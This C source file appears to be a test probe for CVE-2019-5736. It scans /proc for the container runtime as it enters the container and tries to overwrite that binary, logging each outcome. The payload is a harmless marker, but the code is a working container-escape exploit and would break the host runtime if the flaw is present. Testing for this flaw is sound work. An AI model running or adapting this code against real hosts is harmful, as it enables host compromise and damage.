// Tries to write to every program that is executed and is not the image's own: the runtime is, whenever it brings a
// process into the container (CVE-2019-5736). Runs until it is killed. Usage: overwrite RESULT [DESCRIPTOR]
//
// RESULT gets a line the first time something happens: "looking" before the first look, "handle" when a foreign program
// could be named, "direct E" and "through E" for each error number of an attempt to open it for writing, "write E" when
// it could be opened and not written to, "WRITTEN" when it was changed. DESCRIPTOR is one already open on a foreign
// program. Then the attempts go on in a process of their own for 50 ms, in which whoever waits for this one, and keeps
// its program busy, can end.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HANDLES 16

static const char *const own[] = { "/proc/self/exe", "/bin/busybox", "/overwrite" };
static int result;

static void say(const char *what, int number)
{
	static char said[64][32];
	static int count;
	char line[32];

	snprintf(line, sizeof line, "%s %d\n", what, number);
	for (int i = 0; i < count; i++)
		if (!strcmp(said[i], line))
			return;
	if (count < 64)
		strcpy(said[count++], line);
	if (write(result, line, strlen(line)) < 0)
		exit(3);
}

static void attempt(const char *how, const char *path)
{
	static const char text[] = "#!/bin/false\noverwritten\n";
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0) {
		// The process may have ended; then nothing was tried.
		if (errno != ENOENT && errno != ESRCH)
			say(how, errno);
		return;
	}
	if (write(fd, text, sizeof text - 1) > 0)
		say("WRITTEN", 0);
	else
		say("write", errno);
	close(fd);
}

static int is_own(const struct stat *there)
{
	for (size_t i = 0; i < sizeof own / sizeof *own; i++) {
		struct stat mine;
		if (!stat(own[i], &mine) && mine.st_dev == there->st_dev && mine.st_ino == there->st_ino)
			return 1;
	}
	return 0;
}

static void through(int fd)
{
	char path[32];

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	attempt("through", path);
}

int main(int argc, char **argv)
{
	int handles[HANDLES], count = 0;

	result = open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (argc < 2 || result < 0)
		return 2;
	if (argc > 2) {
		const struct timespec pause = { 0, 1000000 };

		say("handle", 0);
		if (fork())
			return 0;
		for (int i = 0; i < 50; i++, nanosleep(&pause, NULL))
			through(atoi(argv[2]));
		say("done", 0);
		return 0;
	}
	say("looking", 0);
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			char path[300];
			struct stat there;
			int fd;

			if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (fstat(fd, &there) || is_own(&there)) {
				close(fd);
				continue;
			}
			say("handle", 0);
			attempt("direct", path);
			if (count == HANDLES)
				close(handles[--count]);
			handles[count++] = fd;
		}
		if (proc)
			closedir(proc);
		for (int i = 0; i < count; i++)
			through(handles[i]);
	}
}
